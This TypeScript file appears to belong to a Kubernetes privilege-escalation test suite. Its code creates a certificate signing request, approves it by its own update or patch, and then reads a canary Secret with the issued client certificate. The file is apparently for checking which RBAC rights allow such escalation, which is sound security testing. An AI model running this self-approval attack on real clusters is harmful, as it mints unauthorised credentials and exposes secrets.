import { readFileSync } from "node:fs";
import { request } from "node:https";
import { json } from "node:stream/consumers";
import { waitFor } from "../../control-plane/act.ts";
import type { Stored } from "../../control-plane/story.ts";
import type { Attack } from "./attack.ts";
import { certificateRequest } from "./csr.ts";
import { canaryPath, reader, valueIn, type Stage } from "./stage.ts";

const GROUP = "certificates.k8s.io";
const REQUESTS = `certificatesigningrequests.${GROUP}`;
const PATH = `/apis/${GROUP}/v1/certificatesigningrequests`;
const SIGNER = "kubernetes.io/kube-apiserver-client";

/** Gets the canary as whoever the certificate names, with no token. */
async function getWithCertificate(stage: Stage, cert: string, key: string): Promise<string> {
  return waitFor("the canary to be readable with the certificate", async (note) => {
    const { status, body } = await new Promise<{ status: number; body: unknown }>((resolve, reject) => {
      const ca = readFileSync(stage.plane.caFile);
      const options = { ca, cert, key, agent: false, headers: { accept: "application/json" } };
      const asked = request(new URL(canaryPath(stage), stage.plane.server), options, (response) => {
        json(response).then((body) => resolve({ status: response.statusCode ?? 0, body }), reject);
      });
      asked.once("error", reject);
      asked.end();
    });
    note(String(status));
    return status === 200 ? valueIn(body as Stored) : null;
  });
}

/** Asks until the controller has signed. */
async function signed(ask: () => Promise<Stored>): Promise<string> {
  // Not with waitFor, which would go on after a refusal.
  for (let tries = 0; tries < 200; tries++) {
    const { status } = await ask();
    if (status.certificate !== undefined) return Buffer.from(status.certificate, "base64").toString("utf8");
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error("no certificate was issued in ten seconds");
}

const MERGE = { contentType: "application/merge-patch+json" };

/**
 * No right to read the request is needed: the answer to an approval is the whole request, and that of a second one holds
 * the certificate.
 */
export const attacks: Attack[] = ["update", "patch"].map((verb) => ({
  edge: "certificates-approve",
  how: `a certificate for a user that may read the Secret, approved by ${verb}`,
  rights: (stage) => [
    stage.everywhere("create", REQUESTS),
    stage.everywhere(verb, `${REQUESTS}/approval`),
    stage.everywhere("approve", `signers.${GROUP}`, SIGNER),
  ],
  arrange: async (stage) => {
    await stage.plane.request("DELETE", `${PATH}/${stage.unique}`);
    await reader(stage, { kind: "User", name: stage.unique });
  },
  attack: async (stage) => {
    const { unique: name } = stage;
    const { request, key } = certificateRequest(name);
    const spec = { request: Buffer.from(request).toString("base64"), signerName: SIGNER, usages: ["client auth"] };
    const created = await stage.send("POST", PATH, { metadata: { name }, spec });
    const conditions = [{ type: "Approved", status: "True", reason: "Attack", message: "by the attacker itself" }];
    const path = `${PATH}/${name}/approval`;
    // Without its version, so that it can be sent again.
    const metadata = { ...created["metadata"], resourceVersion: undefined };
    const approve = () =>
      verb === "patch"
        ? stage.send("PATCH", path, { status: { conditions } }, MERGE)
        : stage.send("PUT", path, { ...created, metadata, status: { conditions } });
    return getWithCertificate(stage, await signed(approve), key);
  },
}));
